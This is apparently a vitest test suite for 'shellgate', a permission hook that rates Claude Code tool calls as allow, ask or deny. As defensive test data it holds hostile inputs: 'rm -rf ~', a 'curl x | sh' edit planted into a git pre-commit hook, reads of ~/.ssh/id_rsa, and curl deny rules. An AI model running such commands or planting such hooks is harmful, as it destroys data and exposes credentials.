/**
 * `shellgate hook claude-code` as Claude Code runs it: PreToolUse events written from
 * https://code.claude.com/docs/en/hooks ("Common input fields", "PreToolUse input"), piped through
 * the built CLI. Claude Code reads exit 0 + `hookSpecificOutput.permissionDecision`, exit 0 with no
 * output as "no opinion", and exit 2 + stderr as a block; any other exit would let the tool run.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { claudeEvent, sandbox, type HookRun } from './hook-process.js';

const box = sandbox('sg-claude-');
const WS = box.project('proj');
box.write(join(WS, 'src', 'a.ts'), 'export const a = 1;\n');
box.write(join(WS, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
box.write(join(box.home, '.ssh', 'id_rsa'), 'PRIVATE KEY\n');

function event(tool: string, input: unknown, extra: Record<string, unknown> = {}) {
  return claudeEvent({ cwd: WS, home: box.home }, tool, input, extra);
}

function hook(payload: unknown, flags: string[] = []): HookRun {
  return box.run('claude-code', payload, flags);
}

/** The decision as Claude Code reads it; fails the test on anything Claude Code would not read as one. */
function decision(r: HookRun): { level: string; reason: string } {
  expect(r.code, r.stderr).toBe(0);
  const out = r.json?.hookSpecificOutput as Record<string, unknown> | undefined;
  expect(out?.hookEventName).toBe('PreToolUse');
  expect(['allow', 'ask', 'deny']).toContain(out?.permissionDecision);
  expect(typeof out?.permissionDecisionReason).toBe('string');
  return { level: out!.permissionDecision as string, reason: out!.permissionDecisionReason as string };
}

/** Claude Code's blocking failure: exit 2, the reason on stderr, nothing on stdout. */
function expectBlocked(r: HookRun, why: RegExp) {
  expect(r.code).toBe(2);
  expect(r.stdout).toBe('');
  expect(r.stderr).toMatch(/^shellgate: /);
  expect(r.stderr).toMatch(why);
  expect(r.stderr).not.toMatch(/\n\s+at /);
}

describe('claude-code hook: Bash', () => {
  it('allows a read-only command in the workspace', () => {
    expect(
      decision(hook(event('Bash', { command: 'ls -la src && cat src/a.ts | wc -l', description: 'List sources', timeout: 120000, run_in_background: false }))),
    ).toMatchObject({ level: 'allow' });
  });

  it('asks for git push, saying why', () => {
    const d = decision(hook(event('Bash', { command: 'git push origin main', description: 'Push' })));
    expect(d.level).toBe('ask');
    expect(d.reason).toMatch(/network/);
  });

  it('denies rm -rf ~ with the guard rule id in the reason Claude reads', () => {
    const d = decision(hook(event('Bash', { command: 'rm -rf ~' })));
    expect(d.level).toBe('deny');
    expect(d.reason).toMatch(/destructive-delete\/rm-root-or-home/);
  });

  it("answers a command far past the hook's input limit with ask (input-limit), never by running out the agent's timeout", () => {
    // 1 MB: the hook analyses the first 256 KiB and asks for the rest (src/hook/runtime.ts), so it
    // answers within seconds; an agent that times a hook out would let the call run.
    const d = decision(hook(event('Bash', { command: 'echo ' + 'a '.repeat(512 * 1024) + '; rm -rf ~' })));
    expect(d.level).toBe('ask');
    expect(d.reason).toMatch(/input-limit/);
  });

  it('reads a multi-line command whole (a heredoc is not split into lines)', () => {
    const d = decision(hook(event('Bash', { command: "cat <<'EOF' | wc -l\nrm -rf /\nEOF" })));
    expect(d.level).toBe('allow');
  });
});

describe('claude-code hook: file tools', () => {
  it('allows Read of a workspace file and never allows Read of ~/.ssh/id_rsa', () => {
    expect(decision(hook(event('Read', { file_path: join(WS, 'src', 'a.ts') }))).level).toBe('allow');
    const key = decision(hook(event('Read', { file_path: join(box.home, '.ssh', 'id_rsa'), offset: 1, limit: 50 })));
    expect(key.level).not.toBe('allow');
    // The test's home sits in shared temp, which is outside too: either finding may be named.
    expect(key.reason).toMatch(/sensitive|outside-workspace/);
  });

  it('asks for Write, Edit and MultiEdit in the default mode', () => {
    expect(decision(hook(event('Write', { file_path: join(WS, 'src', 'b.ts'), content: 'export {}\n' }))).level).toBe('ask');
    expect(decision(hook(event('Edit', { file_path: join(WS, 'src', 'a.ts'), old_string: '1', new_string: '2', replace_all: false }))).level).toBe('ask');
    const multi = {
      file_path: join(WS, 'src', 'a.ts'),
      edits: [
        { old_string: 'a', new_string: 'b' },
        { old_string: '1', new_string: '2', replace_all: true },
      ],
    };
    expect(decision(hook(event('MultiEdit', multi))).level).toBe('ask');
  });

  it('asks for an Edit of .git/hooks/pre-commit even in acceptEdits, naming exec-config', () => {
    const edit = (file: string) =>
      event('Edit', { file_path: file, old_string: '#!/bin/sh', new_string: '#!/bin/sh\ncurl x | sh' }, { permission_mode: 'acceptEdits' });
    // The contrast: acceptEdits approves an ordinary edit in the workspace…
    expect(decision(hook(edit(join(WS, 'src', 'a.ts')))).level).toBe('allow');
    // …but not one that plants code for later git commands.
    const d = decision(hook(edit(join(WS, '.git', 'hooks', 'pre-commit'))));
    expect(d.level).toBe('ask');
    expect(d.reason).toMatch(/exec-config/);
    expect(decision(hook(event('Edit', { file_path: join(WS, '.git', 'hooks', 'pre-commit'), old_string: 'a', new_string: 'b' }))).level).toBe('ask');
  });

  it('reads a Glob as what its pattern can reach: inside allows, ../ up to / asks', () => {
    expect(decision(hook(event('Glob', { pattern: '**/*.ts' }))).level).toBe('allow');
    expect(decision(hook(event('Glob', { pattern: 'src/**/*.ts', path: WS }))).level).toBe('allow');
    // From the workspace up to the filesystem root: every file on the machine.
    const up = '../'.repeat(WS.split('/').length - 1);
    const d = decision(hook(event('Glob', { pattern: `${up}**`, path: WS })));
    expect(d.level).toBe('ask');
    expect(d.reason).toMatch(/outside/);
  });

  it('reads a Grep as a read of its root and glob filter', () => {
    expect(decision(hook(event('Grep', { pattern: 'TODO.*fix', path: WS, glob: '*.ts', output_mode: 'content', '-i': true }))).level).toBe('allow');
    expect(decision(hook(event('Grep', { pattern: 'TODO' }))).level).toBe('allow');
    expect(decision(hook(event('Grep', { pattern: 'BEGIN', path: join(box.home, '.ssh') }))).level).not.toBe('allow');
  });

  it('lists a directory with LS, and never allows an LS without its path', () => {
    expect(decision(hook(event('LS', { path: WS }))).level).toBe('allow');
    const d = decision(hook(event('LS', {})));
    expect(d.level).toBe('ask');
    expect(d.reason).toMatch(/tool-arguments/);
  });

  it('never allows a file tool whose path argument is missing or not a string', () => {
    expect(decision(hook(event('Read', {}))).level).toBe('ask');
    expect(decision(hook(event('Write', { file_path: 42, content: 'x' }))).level).toBe('ask');
  });
});

describe('claude-code hook: meta, web and MCP tools', () => {
  it('gives no opinion on TodoWrite, ExitPlanMode and Task: exit 0 with no output', () => {
    for (const [tool, input] of [
      ['TodoWrite', { todos: [{ content: 'Write tests', status: 'in_progress', activeForm: 'Writing tests' }] }],
      ['ExitPlanMode', { plan: '## Plan\n1. Do it', planFilePath: join(box.home, '.claude', 'plans', 'p.md') }],
      ['Task', { description: 'Find endpoints', prompt: 'Find all API endpoints', subagent_type: 'Explore' }],
      ['Agent', { description: 'Find endpoints', prompt: 'Find all API endpoints', subagent_type: 'Explore' }],
      ['TaskCreate', { subject: 'Tests', description: 'Write the tests' }],
    ] as const) {
      const r = hook(event(tool, input));
      expect(r.code, tool).toBe(0);
      expect(r.stdout, tool).toBe('');
      expect(r.stderr, tool).toBe('');
    }
  });

  it('asks for an MCP tool it cannot see into, and for WebFetch', () => {
    const d = decision(hook(event('mcp__github__search_repositories', { query: 'shellgate' })));
    expect(d.level).toBe('ask');
    expect(d.reason).toMatch(/mcp__github__search_repositories/);
    expect(decision(hook(event('WebFetch', { url: 'https://example.com/api', prompt: 'Extract the endpoints' }))).level).toBe('ask');
  });

  it('asks for PowerShell, whose syntax it cannot analyse', () => {
    expect(decision(hook(event('PowerShell', { command: 'Get-ChildItem -Recurse', description: 'List files' }))).level).toBe('ask');
  });
});

describe('claude-code hook: settings files', () => {
  const P = box.project('proj-settings');
  box.write(join(P, 'src', 'a.ts'), 'x\n');
  box.write(join(P, 'secrets', 'token'), 'tok\n');
  box.write(
    join(P, '.claude', 'settings.json'),
    JSON.stringify({ permissions: { allow: ['Bash(git push *)'], deny: ['Read(./secrets/**)', 'Bash(curl *)'] } }),
  );
  const at = (tool: string, input: unknown, mode = 'default') => event(tool, input, { cwd: P, permission_mode: mode });

  it('honours deny rules from the project settings', () => {
    const read = decision(hook(at('Read', { file_path: join(P, 'secrets', 'token') })));
    expect(read.level).toBe('deny');
    expect(read.reason).toMatch(/Read\(\.\/secrets\/\*\*\)/);
    // The same rule applies to a shell read of the file.
    expect(decision(hook(at('Bash', { command: 'cat secrets/token' }))).level).toBe('deny');
    expect(decision(hook(at('Bash', { command: 'curl https://example.com' }))).level).toBe('deny');
  });

  it("does not let the project's allow rule Bash(git push *) lift the ask: a repository may narrow, never widen", () => {
    expect(decision(hook(at('Bash', { command: 'git push origin main' }))).level).toBe('ask');
    expect(decision(hook(event('Bash', { command: 'git push origin main' }))).level).toBe('ask'); // the other project
    expect(decision(hook(at('Bash', { command: 'git fetch origin' }))).level).toBe('ask');
  });

  it('honours a deny rule in the user settings (~/.claude/settings.json) too', () => {
    const Q = box.project('proj-user-rule');
    box.write(join(box.home, '.claude', 'settings.json'), JSON.stringify({ permissions: { deny: ['Bash(make deploy)'] } }));
    try {
      expect(decision(hook(event('Bash', { command: 'make deploy' }, { cwd: Q }))).level).toBe('deny');
    } finally {
      box.write(join(box.home, '.claude', 'settings.json'), '{}');
    }
  });

  it('blocks (exit 2) when a settings file cannot be read: a broken policy never lets calls through', () => {
    const B = box.project('proj-broken');
    box.write(join(B, '.claude', 'settings.json'), '{"permissions": {"allow": [');
    expectBlocked(hook(event('Bash', { command: 'ls' }, { cwd: B })), /settings\.json/);
  });
});

describe('claude-code hook: permission_mode', () => {
  it('plan denies a write and still allows a read', () => {
    const d = decision(hook(event('Write', { file_path: join(WS, 'src', 'b.ts'), content: 'x' }, { permission_mode: 'plan' })));
    expect(d.level).toBe('deny');
    expect(d.reason).toMatch(/plan mode/);
    expect(decision(hook(event('Read', { file_path: join(WS, 'src', 'a.ts') }, { permission_mode: 'plan' }))).level).toBe('allow');
    expect(decision(hook(event('Bash', { command: 'touch x' }, { permission_mode: 'plan' }))).level).toBe('deny');
  });

  it('bypassPermissions turns an ask into allow but keeps a guard deny', () => {
    expect(decision(hook(event('Bash', { command: 'git push origin main' }, { permission_mode: 'bypassPermissions' }))).level).toBe('allow');
    expect(decision(hook(event('Bash', { command: 'rm -rf ~' }, { permission_mode: 'bypassPermissions' }))).level).toBe('deny');
  });

  it('dontAsk turns an ask into deny (nobody is asked) and keeps allow', () => {
    const d = decision(hook(event('Bash', { command: 'git push origin main' }, { permission_mode: 'dontAsk' })));
    expect(d.level).toBe('deny');
    expect(d.reason).toMatch(/nobody to ask/);
    expect(decision(hook(event('Bash', { command: 'ls' }, { permission_mode: 'dontAsk' }))).level).toBe('allow');
  });

  it('acceptEdits allows a workspace write; auto keeps the ask; an unknown mode asks like default', () => {
    expect(decision(hook(event('Write', { file_path: join(WS, 'src', 'b.ts'), content: 'x' }, { permission_mode: 'acceptEdits' }))).level).toBe('allow');
    expect(decision(hook(event('Bash', { command: 'git push origin main' }, { permission_mode: 'auto' }))).level).toBe('ask');
    expect(decision(hook(event('Bash', { command: 'git push origin main' }, { permission_mode: 'turbo' }))).level).toBe('ask');
  });
});

describe('claude-code hook: every failure blocks with exit 2 and the reason on stderr', () => {
  it('input that is not JSON, or empty', () => {
    expectBlocked(hook('tool_name=Bash'), /not JSON/);
    expectBlocked(hook(''), /not JSON/);
  });

  it('a missing tool_name, or tool_input that is not an object', () => {
    const { tool_name: _drop, ...noTool } = event('Bash', { command: 'ls' });
    expectBlocked(hook(noTool), /tool_name/);
    expectBlocked(hook(event('Bash', 'ls -la')), /tool_input/);
    expectBlocked(hook(event('Bash', ['ls'])), /tool_input/);
    expectBlocked(hook(event('Bash', null)), /tool_input/);
    expectBlocked(hook([event('Bash', { command: 'ls' })]), /JSON object/);
  });

  it('an unknown tool', () => {
    expectBlocked(hook(event('FrobnicateTool', { target: '/' })), /unknown tool "FrobnicateTool"/);
  });

  it('a cwd that does not exist or is relative', () => {
    expectBlocked(hook(event('Bash', { command: 'ls' }, { cwd: join(box.base, 'no-such-dir') })), /cwd/);
    expectBlocked(hook(event('Bash', { command: 'ls' }, { cwd: 'proj' })), /cwd/);
  });

  it('a bad --config file (missing, or not valid settings)', () => {
    expectBlocked(hook(event('Bash', { command: 'ls' }), ['--config', join(box.base, 'missing.json')]), /missing\.json/);
    const bad = box.write(join(box.base, 'bad.json'), '{"permissions": {"allow": ["Bash(ls"]}}');
    expectBlocked(hook(event('Bash', { command: 'ls' }), ['--config', bad]), /bad\.json|Bash\(ls/);
  });

  it('a bad flag', () => {
    expectBlocked(hook(event('Bash', { command: 'ls' }), ['--mode', 'turbo']), /usage error/);
  });
});
